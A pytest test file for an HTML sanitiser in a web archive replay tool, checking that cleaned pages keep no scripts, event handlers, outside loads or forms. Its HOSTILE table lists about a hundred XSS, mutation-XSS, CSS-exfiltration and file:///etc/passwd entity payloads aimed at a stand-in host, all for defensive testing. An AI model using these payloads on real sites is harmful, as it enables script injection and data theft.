"""Cleaning leaves nothing of hostile HTML that runs, loads from outside or sends."""

import re
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import cast

import pytest

from archive.capture import Capture, CaptureOutcome
from archive.errors import LimitExceeded
from archive.store.reading.recorded import PagePart
from web.replay.clean import CleanPage, clean_page
from web.replay.frame import frame_page
from web.replay.links import Gap, PartTable
from web.replay.markup import TAGS
from web.replay.tree import GapWords
from web.wording.languages import ENGLISH

BASE = "http://site.example/dir/page"
PAGE_ID = "a" * 26
EVIL = "http://evil.example/x"
CAPTURED = ("ok.png", "ok.css", "ok.woff2", "big.png")

HOSTILE = {
    "script": f"<script src={EVIL}></script><script>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "script unclosed": "<script>alert(1)",
    "script in comment": "<!--><script>alert(1)</script>-->",
    "script after odd comment end": "<!-- --!><script>alert(1)</script>",
    "script in old comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "script in title": "<title><script>alert(1)</script></title>",
    "script in textarea end": "<textarea></textarea><script>alert(1)</script>",
    "script in noscript": "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "script in template": "<template><script>alert(1)</script></template>",
    "script in xmp": "<xmp></xmp><script>alert(1)</script>",
    "script in plaintext": "<plaintext><script>alert(1)</script>",
    "script in style": "<style><!--</style><script>alert(1)</script>",
    "script null byte": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "script with slash": f"<script/src={EVIL}></script>",
    "on handlers": "<p onclick=alert(1) ONLOAD=alert(1) on\nfocus=alert(1)>x</p>",
    "on handler on body": "<body onload=alert(1) onpageshow=alert(1)>",
    "on handler on html": "<html onclick=alert(1)>",
    "image error": "<img src=x onerror=alert(1)>",
    "image error slash": "<img/src=x/onerror=alert(1)>",
    "details toggle": "<details ontoggle=alert(1) open>x</details>",
    "odd attribute name": '<p x"><img src=x onerror=alert(1)>="y">z</p>',
    "attribute breaks out": "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "backtick attribute": "<p title=`x` onclick=alert(1)>x</p>",
    "javascript link": "<a href='javascript:alert(1)'>x</a>",
    "javascript link spaced": "<a href=' java\tscript:alert(1)'>x</a>",
    "javascript link entity": "<a href='&#106;avascript:alert(1)'>x</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "outside link": f"<a href={EVIL} ping={EVIL} target=_top download>x</a>",
    "fragment then outside": f"<a href='#x\n{EVIL}'>x</a>",
    "area": f"<map name=m><area href={EVIL}></map><img usemap=#m src=ok.png>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content='x'>",
    "meta in body": f"<p><meta http-equiv=refresh content='0;url={EVIL}'>x",
    "base outside": f"<base href={EVIL}/ target=_top><img src=ok.png>",
    "form": f"<form action={EVIL} method=post><input name=a><button>go</button></form>",
    "form attributes": f"<button formaction={EVIL} type=submit form=f>x</button>",
    "form input image": f"<input type=image src={EVIL}>",
    "input password": "<input type=password name=p value=secret autofocus>",
    "isindex": f"<isindex action={EVIL}>",
    "iframe": f"<iframe src={EVIL} srcdoc='<script>alert(1)</script>'></iframe>",
    "frameset": f"<frameset onload=alert(1)><frame src={EVIL}></frameset>",
    "object": f"<object data={EVIL}><param name=movie value={EVIL}></object>",
    "embed": f"<embed src={EVIL}>",
    "applet": f"<applet code={EVIL} archive={EVIL}></applet>",
    "portal": f"<portal src={EVIL}></portal><fencedframe src={EVIL}></fencedframe>",
    "svg use": f"<svg><use href='{EVIL}#a'/><image xlink:href='{EVIL}'/></svg>",
    "svg animate": f"<svg><a><animate attributeName=href values={EVIL}></a></svg>",
    "svg foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></svg>",
    "math link": f"<math href={EVIL}><mi xlink:href='javascript:alert(1)'>x</mi>",
    "math mutation": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "form mutation": "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    "<path id='</style><img onerror=alert(1) src=x>'>",
    "noscript mutation": "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "table foster": "<table><img src=x onerror=alert(1)><tr><td>x</table>",
    "select mutation": "<select><iframe></select><img src=x onerror=alert(1)>",
    "image outside": f"<img src={EVIL}>",
    "image protocol relative": "<img src=//evil.example/x>",
    "image backslash": "<img src='\\\\evil.example\\x'>",
    "image srcset": f"<img src=ok.png srcset='{EVIL} 1x, //evil.example/y 2x'>",
    "image sizes": f"<img src=ok.png lowsrc={EVIL} dynsrc={EVIL} longdesc={EVIL}>",
    "image svg data": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "image html data": "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "image ftp and file": "<img src=ftp://evil.example/x><img src=file:///etc/passwd>",
    "picture source": f"<picture><source srcset={EVIL}><img src={EVIL}></picture>",
    "lazy image": f"<img src=ok.png data-src={EVIL} loading=lazy>",
    "link prefetch": f"<link rel='prefetch dns-prefetch preconnect' href={EVIL}>",
    "link preload": f"<link rel=preload as=image href={EVIL}>",
    "link sheet outside": f"<link rel=stylesheet href={EVIL}>",
    "link sheet javascript": "<link rel=stylesheet href='javascript:alert(1)'>",
    "link import": f"<link rel=import href={EVIL}><link rel=manifest href={EVIL}>",
    "link in body": f"<p><link rel=stylesheet href={EVIL}>x",
    "style import": f"<style>@import '{EVIL}'; @import url({EVIL});</style>",
    "style url": f"<style>p{{background:url({EVIL}), url('//evil.example/y')}}</style>",
    "style url escaped": "<style>p{background:u\\72l(http://evil.example/x)}</style>",
    "style font": f"<style>@font-face{{font-family:f;src:url({EVIL})}}</style>",
    "style image-set": f"<style>p{{background:image-set('{EVIL}' 1x)}}</style>",
    "style src function": f"<style>p{{background:src('{EVIL}')}}</style>",
    "style custom": f"<style>p{{--u:'{EVIL}';--v:image-set(var(--u) 1x)}}</style>",
    "style ends early": "<style>p{content:'</style><script>alert(1)</script>'}</style>",
    "style namespace": f"<style>@namespace x url({EVIL});</style>",
    "style document": f"<style>@document url({EVIL}){{p{{color:red}}}}</style>",
    "style expression": "<style>p{width:expression(alert(1));behavior:url(x)}",
    "style media attribute": "<style media='x\"><script>alert(1)</script>'>p{}</style>",
    "style attribute": f"<p style='background:url({EVIL})'>x</p>",
    "style attribute escape": "<p style='background:\\75rl(//evil.example/x)'>x</p>",
    "style attribute quote": "<p style='content:\"\\22><img src=x onerror=alert(1)>'>x",
    "style on body": f"<body style='background:url({EVIL})' background={EVIL}>x",
    "background": f"<table background={EVIL}><td background={EVIL}>x</table>",
    "video": f"<video src={EVIL} poster={EVIL} autoplay><source src={EVIL}></video>",
    "audio": f"<audio src={EVIL} autoplay controls></audio><bgsound src={EVIL}>",
    "track": f"<video><track src={EVIL}></video>",
    "cite and manifest": f"<q cite={EVIL}>x</q><html manifest={EVIL}>",
    "itemscope": f"<p itemscope itemid={EVIL} itemtype={EVIL} about={EVIL}>x</p>",
    "dialog and popover": "<dialog open>x</dialog><p popover id=p>x</p>",
    "custom element": f"<x-evil src={EVIL} onclick=alert(1)>x</x-evil>",
    "processing instruction": f"<?xml-stylesheet href='{EVIL}'?><p>x</p>",
    "entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;</p>",
    "access key": "<a href=#a accesskey=x tabindex=1 contenteditable>x</a>",
    "deep nesting": "<div>" * 5_000 + "<script>alert(1)</script>",
    "many formatting": "<b><i><u>" * 2_000 + "x",
    "slot and shadow": f"<div><template shadowrootmode=open><img src={EVIL}></div>",
}
OWN_ADDRESS = re.compile(rf"/p/{PAGE_ID}/\d+")


def capture(name: str) -> SimpleNamespace:
    return SimpleNamespace(
        capture_id=name,
        http_status=200,
        media_type=None,
        outcome=CaptureOutcome.COMPLETE,
    )


def table() -> PartTable:
    parts = [
        PagePart(
            uri=f"http://site.example/dir/{name}",
            as_given=name,
            kind="image",
            capture_id=name,
            outcome="complete",
            reason="",
        )
        for name in CAPTURED
    ]
    return PartTable(PAGE_ID, parts, lambda name: cast("Capture", capture(name)))


def write_words(kind: str, gap: Gap) -> str:
    return f"missing {kind}: {gap.reason}"


WORDS = GapWords(language="be", write=write_words)


def clean(html: str) -> CleanPage:
    return clean_page(html, base=BASE, parts=table(), words=WORDS)


class Seen(HTMLParser):
    """Every start tag of the document we would send."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []
        self._in_style = False
        self.feed(document)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)


OURS = {"html", "head", "body", "meta", "title", "style", "link"}
ALLOWED_ADDRESSES = {"src", "srcset", "href"}
HARMLESS_NAMES = (
    "class id title lang dir role hidden style alt width height type value charset "
    "name content rel media rows cols open checked"
)
HARMLESS = set(HARMLESS_NAMES.split())


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    document = frame_page(clean(html), ENGLISH).decode()
    seen = Seen(document)
    for tag, attributes in seen.tags:
        assert tag in TAGS | OURS
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            if name in ALLOWED_ADDRESSES:
                assert value is not None
                own = [part.split()[0] for part in value.split(",")]
                inner = tag == "a" and value.startswith("#") and "\n" not in value
                assert inner or all(OWN_ADDRESS.fullmatch(one) for one in own), value
            else:
                assert name in HARMLESS, (tag, name, value)
            if name == "style":
                assert "evil" not in (value or "")
    assert "evil.example" not in "".join(seen.styles)
    values = [v or "" for _, a in seen.tags for n, v in a.items() if n != "title"]
    assert "alert(1)" not in "".join(values)
    assert [tag for tag, _ in seen.tags].count("html") == 1
    assert "<script" not in document.lower()


def test_the_table_holds_enough_attacks() -> None:
    assert len(HOSTILE) >= 60


def test_captured_parts_are_shown_from_our_own_addresses() -> None:
    page = clean(
        "<link rel=stylesheet href=ok.css><img src=ok.png srcset='ok.png 1x, "
        "big.png 2x, lost.png 3x'><p style='background:url(ok.png)'>x</p>"
        "<style>@font-face{font-family:f;src:url(ok.woff2)}</style>"
    )
    assert [sheet.path for sheet in page.sheets] == [f"/p/{PAGE_ID}/1", None]
    assert f'src="/p/{PAGE_ID}/0"' in page.body
    assert f'srcset="/p/{PAGE_ID}/0 1x, /p/{PAGE_ID}/3 2x"' in page.body
    assert f"url(&quot;/p/{PAGE_ID}/0&quot;)" in page.body
    assert f'url("/p/{PAGE_ID}/2")' in (page.sheets[1].text or "")
    assert page.gaps == ()


def test_a_missing_image_is_a_box_of_its_size_with_the_reason() -> None:
    page = clean("<img src=lost.png width=120 height=60 alt=x>after")
    assert 'class="evidence-gap"' in page.body
    assert "width:120px;height:60px" in page.body
    assert "missing image: not-listed" in page.body
    assert page.body.endswith("after")
    assert [(gap.kind, gap.reason) for gap in page.gaps] == [("image", "not-listed")]


def test_a_failed_part_says_why() -> None:
    part = PagePart(
        uri="http://site.example/dir/lost.png",
        as_given="lost.png",
        kind="image",
        capture_id=None,
        outcome="refused",
        reason="",
    )
    parts = PartTable(PAGE_ID, [part], lambda _: None)
    page = clean_page("<img src=lost.png>", base=BASE, parts=parts, words=WORDS)
    assert [(gap.reason, gap.detail) for gap in page.gaps] == [("failed", "refused")]


def test_a_base_element_counts_for_parts() -> None:
    page = clean("<base href='http://site.example/dir/'><img src=ok.png>")
    assert f'src="/p/{PAGE_ID}/0"' in page.body
    page = clean("<base href='http://other.example/'><img src=ok.png>")
    assert page.gaps[0].reason == "not-listed"


def test_text_and_structure_survive() -> None:
    html = (
        "<!doctype html><html lang=be class=k><body class=b><h1>Вынікі</h1>"
        "<table><tr><th colspan=2>A<td>1</table><a href='#x'>in</a>"
        "<a href=/out>out</a><noscript><p>plain</p></noscript></body></html>"
    )
    page = clean(html)
    assert page.has_doctype
    assert page.html_attributes == (("lang", "be"), ("class", "k"))
    assert page.body_attributes == (("class", "b"),)
    assert "<h1>Вынікі</h1>" in page.body
    assert 'colspan="2"' in page.body
    assert '<a href="#x">in</a>' in page.body
    assert "<a>out</a>" in page.body
    assert "<p>plain</p>" in page.body


@pytest.mark.parametrize("html", ["", " ", "<!-- x -->", "\0", "<frameset></frameset>"])
def test_an_empty_document_gives_an_empty_page(html: str) -> None:
    assert "<script" not in clean(html).body
    assert not clean(html).has_doctype


def test_cleaning_the_result_again_changes_nothing() -> None:
    once = clean("<div class=a><p>x<img src=ok.png></div>")
    again = clean(f"<body>{once.body}")
    assert "/p/" not in again.body.replace("missing", "")
    assert again.body.count("<p>") == 1


@pytest.mark.parametrize("tag", ["embed", "source", "track", "wbr", "bgsound"])
def test_what_follows_an_element_without_an_end_tag_stays(tag: str) -> None:
    page = clean(f"<div>a<{tag} src=x>b<p>c</p>d</div><p>e</p>").body
    text = re.sub(r"<span class=\"evidence-gap.*?</span>|<[^>]*>", "", page)
    assert text == "abcde"


def test_the_image_of_a_picture_is_no_child_of_its_sources() -> None:
    page = clean("<picture><source srcset=no.webp><img src=ok.png></picture>")
    assert page.body.count("/p/") == 1


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("page", "kept"),
    [
        ("<foo>x</foo>" * 50_000, "x" * 50_000),
        ("x<input type=hidden>" * 50_000, "x" * 50_000),
        ("<p><wbr>x</p>" * 50_000, "<p><wbr>x</p>" * 50_000),
        (
            "<p " + " ".join(f'a{n}="&#12;"' for n in range(4_000)) + ">x</p>",
            "<p>x</p>",
        ),
    ],
)
def test_a_page_is_cleaned_in_time_by_its_length(page: str, kept: str) -> None:
    """Element by element these take minutes, and a server has few threads."""
    assert clean(page).body == kept


@pytest.mark.parametrize(
    "page",
    [
        "<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">x",
        ("<p " + " ".join(f"a{n}=1" for n in range(900)) + ">x") * 40,
        '<p b="<" ' + " ".join(f"a{n}" for n in range(20_000)) + ">x",
    ],
)
def test_a_page_that_stops_parsers_is_not_parsed(page: str) -> None:
    with pytest.raises(LimitExceeded):
        clean(page)


def test_odd_letters_in_elements_that_hold_nothing_are_replaced() -> None:
    assert clean("<embed>&#11;x<track>&#12;y").body.endswith("y")
